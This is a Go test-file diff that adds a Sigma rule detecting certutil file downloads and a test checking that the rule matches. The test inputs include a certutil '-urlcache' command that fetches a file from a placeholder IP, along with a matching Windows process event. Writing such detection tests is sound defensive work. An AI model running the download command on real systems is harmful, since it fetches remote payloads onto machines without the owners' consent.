@@ -12,6 +12,7 @@ import (
 
 	"github.com/casemate-ai/casemate"
 	"github.com/casemate-ai/casemate/internal/security/explain"
+	"github.com/casemate-ai/casemate/internal/security/sigma"
 	"pgregory.net/rapid"
 )
 
@@ -289,4 +290,45 @@ func ExampleExplain() {
 	//
 	// Risk  strong signs of an attack
 	//       · it downloads a file
+}
+
+const rule = `title: Certutil download
+id: 11111111-2222-3333-4444-555555555555
+status: test
+logsource: {product: windows, category: process_creation}
+detection:
+  selection:
+    Image|endswith: '\certutil.exe'
+    CommandLine|contains: urlcache
+  condition: selection
+level: high
+tags: [attack.t1105]
+`
+
+// TestRules runs a Sigma rule over a pasted command line and over an event.
+func TestRules(t *testing.T) {
+	rules, refused := sigma.ParseRules("rule.yml", []byte(rule))
+	if len(refused) > 0 {
+		t.Fatal(refused)
+	}
+	engine, err := sigma.Compile(rules, sigma.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, in := range []string{
+		"certutil -urlcache -f http://203.0.113.5/a a",
+		`{"EventID":4688,"Channel":"Security","EventData":{"NewProcessName":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f x"}}`,
+	} {
+		e, err := explain.Explain(context.Background(), in, explain.Options{Rules: engine})
+		if err != nil {
+			t.Fatal(err)
+		}
+		found := false
+		for _, f := range e.Findings {
+			found = found || f.Source == "rule" && strings.Contains(f.Text, "Certutil download") && f.Level == casemate.SeverityHigh
+		}
+		if !found {
+			t.Errorf("%q: the rule did not match: %+v", in, e.Findings)
+		}
+	}
 }
